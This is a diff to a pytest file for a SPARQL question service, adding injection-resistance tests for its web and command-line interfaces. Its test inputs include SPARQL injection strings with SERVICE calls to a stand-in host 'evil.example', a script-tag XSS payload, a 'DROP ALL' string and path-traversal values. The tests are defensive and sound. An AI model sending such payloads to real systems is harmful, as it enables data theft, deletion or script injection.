@@ -4,15 +4,19 @@ from __future__ import annotations
 
 import json
 import re
+from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 from flask.testing import FlaskClient
 from pyoxigraph import NamedNode, Store
+from rdflib.plugins.sparql.parser import parseQuery
 
+from hedgerow import cli
 from hedgerow.errors import CallError
 from hedgerow.graph.guard import MAX_NESTING, MAX_PATH_STEPS, MAX_PATTERNS, MAX_QUERY_BYTES
 from hedgerow.iri import DEFAULT_BASE
-from hedgerow.questions import RECORD_TYPES, Parameter, Question, load_questions
+from hedgerow.questions import FORMS, RECORD_TYPES, Parameter, Question, load_questions
 from hedgerow.rq import bind
 
 PAGE = {"Accept": "text/html"}
@@ -71,6 +75,30 @@ INJECTIONS = [
     "\\0",
     "{{7*7}}",
     "\ud800",
+    "UNION",
+    "SERVICE",
+    "SELECT",
+    "a } UNION { SERVICE <http://evil.example/> { ?s ?p ?o } } {",
+    "nickel> . SERVICE <http://evil.example/sparql",
+    "nickel> UNION <urn:a",
+    "nickel\\u003E",
+    "nickel%3E%20%7D",
+    "%00",
+    "JP\u200e",
+    "JP\u2028}",
+    "JP\x1f",
+    "JP\x7f",
+    "JP\ufeff",
+    "UNDEF",
+    "demo/a",
+    "demo/../a",
+    "demo//a",
+    "-0",
+    "+5",
+    "0005.50",
+    "5.",
+    "999999999999999999999",
+    "0001-01-01",
 ]
 
 
@@ -97,9 +125,8 @@ def test_no_value_of_a_parameter_becomes_part_of_the_query(question: Question, p
         assert bind(bound, {parameter.name: [default]}) == plain
         assert list(Store().query(f"SELECT ?x {{ VALUES ?x {{ {term} }} }}")) != []
         if parameter.type in RECORD_TYPES or parameter.type.startswith("code:"):
-            assert NamedNode(term[1:-1]).value.startswith(
-                (f"{DEFAULT_BASE}/id/{parameter.type}/", "https://w3id.org/hedgerow/code/")
-            )
+            place = (f"{DEFAULT_BASE}/id/{parameter.type}/", f"{DEFAULT_BASE}/demo/id/{parameter.type}/")
+            assert NamedNode(term[1:-1]).value.startswith((*place, "https://w3id.org/hedgerow/code/"))
     assert len(refused) > len(INJECTIONS) / 2
     for error in refused:
         assert f"'{parameter.name}'" in error.detail
@@ -119,6 +146,104 @@ def test_the_site_answers_every_such_value_with_a_reason_or_rows(
             assert f"'{parameter.name}'" in problem["detail"]
             assert problem["remedy"]
             assert len(response.data) < 16_000
+
+
+#: For each type a value that no query names otherwise, and one that looks like a piece of one and is taken.
+USUAL = {"date": "2031-07-13", "integer": "7351", "decimal": "0.7351"}
+ODD = {"date": "0001-01-01", "integer": "-7351", "decimal": "-0005.50"}
+
+
+def parsed(question: Question, values: dict[str, str]) -> str:
+    """The query as another parser reads it, with a mark in the place of each term that was put into it."""
+    read = repr(parseQuery(question.bound(values, DEFAULT_BASE)))
+    for parameter in question.parameters:
+        if parameter.name in values:
+            term = parameter.term(values[parameter.name], DEFAULT_BASE)
+            where = parseQuery(f"SELECT * {{ ?s ?p {term} }}")[1]["where"]
+            shown = repr(where["part"][0]["triples"][0][2])
+            assert shown in read
+            read = read.replace(shown, parameter.name)
+    return read
+
+
+@pytest.mark.parametrize("question", load_questions().values(), ids=lambda question: question.name)
+def test_whatever_is_taken_leaves_the_parsed_query_as_it_is(question: Question) -> None:
+    usual, odd = {}, {}
+    for number, parameter in enumerate(question.parameters):
+        if parameter.type == "boolean" or parameter.type.startswith("code:"):
+            # A closed list: what is not in it is refused, so there is nothing to parse.
+            for value in INJECTIONS:
+                with pytest.raises(CallError):
+                    question.bound({parameter.name: value}, DEFAULT_BASE)
+            continue
+        usual[parameter.name] = USUAL.get(parameter.type, f"another-name-{number}")
+        odd[parameter.name] = ODD.get(parameter.type, f"demo/UNION.SERVICE_--{'a' * 5000}{number}")
+    if usual:
+        assert parsed(question, odd) == parsed(question, usual)
+
+
+#: One parameter of each type.
+TYPES = {parameter.type: (question, parameter) for question, parameter in PAIRS}
+
+
+@pytest.mark.parametrize(("question", "parameter"), TYPES.values(), ids=list(TYPES))
+def test_the_command_refuses_what_the_site_refuses(question: Question, parameter: Parameter, tmp_path: Path) -> None:
+    env = {"HEDGEROW_HOME": str(tmp_path)}
+    option = re.sub("([A-Z])", r"-\1", parameter.name).lower()
+    for value in (v for v in INJECTIONS if "\x00" not in v and "\ud800" not in v):  # no system hands these on
+        told = CliRunner().invoke(cli.main, ["ask", question.name, f"--{option}={value}"], env=env)
+        try:
+            parameter.term(value, DEFAULT_BASE)
+            says = "holds no records"  # it went as far as there was something to ask
+        except CallError as error:
+            says = error.remedy
+            assert f"'{parameter.name}'" in told.output
+        assert says in told.output, value[:100]
+        assert told.exit_code == 2
+        assert len(told.output) < 16_000
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("question", load_questions().values(), ids=lambda question: question.name)
+def test_no_form_of_an_answer_lets_a_value_through(question: Question, web: FlaskClient) -> None:
+    parameter = question.parameters[0]
+    refused = next(value for value in INJECTIONS if value.startswith("x }"))
+    for hostile in (refused, '"><script>alert(1)</script>', "'; DROP ALL; #"):
+        asked = {parameter.name: hostile}
+        for form in FORMS:
+            response = web.get(f"/questions/{question.name}.{form.suffix}", query_string={**asked, **form.asked})
+            assert (response.status_code, response.mimetype) == (400, "application/problem+json"), form.name
+            assert json.loads(response.text)["remedy"]
+        for path in ("", "/embed"):
+            response = web.get(f"/questions/{question.name}{path}", query_string=asked, headers=PAGE)
+            assert response.status_code == 400
+            assert "<script" not in response.text
+            assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "item=tin&item=nickel", "item=tin&item=tin", "item=&item=tin", "lang=en&lang=ja", "item=tin&page=1&page=2",
+        "item=tin%00", "item=%00", "item=tin%3E", "item=%22", "item=%E2%80%AE", "item=%ED%A0%80", "item=%FF", "item=%",
+        "item=tin%253E", "item=tin%0A", "item=tin%20%7D", "item%5B%5D=tin", "item%00=tin", "%3Fitem=tin", "=tin",
+        "Item=tin", "itemLabel=tin", "asOf=2026-11-24%00", "country=JP%23",
+    ],
+)  # fmt: skip
+def test_what_an_address_spells_out_is_refused_or_plain(asked: str, web: FlaskClient) -> None:
+    for path in ("reserve-gap.json", "reserve-gap.csv", "reserve-gap.xlsx", "reserve-gap.ttl", "reserve-gap/embed"):
+        response = web.get(f"/questions/{path}?{asked}")
+        assert response.status_code == 400, path
+        assert response.mimetype == "application/problem+json"
+        assert "Traceback" not in response.text
+    assert web.get(f"/questions/reserve-gap?{asked}", headers=PAGE).status_code == 400
+
+
+def test_a_parameter_given_twice_is_told(web: FlaskClient) -> None:
+    problem = json.loads(web.get("/questions/reserve-gap.json?item=tin&item=nickel").text)
+    assert problem["detail"] == "The parameter 'item' is given 2 times."
+    told = CliRunner().invoke(cli.main, ["ask", "reserve-gap", "--item", "tin", "--item", "nickel"])
+    assert (told.exit_code, "The parameter 'item' is given twice" in told.output) == (2, True)
 
 
 def test_a_value_that_does_not_fit_is_not_repeated_whole(web: FlaskClient) -> None:
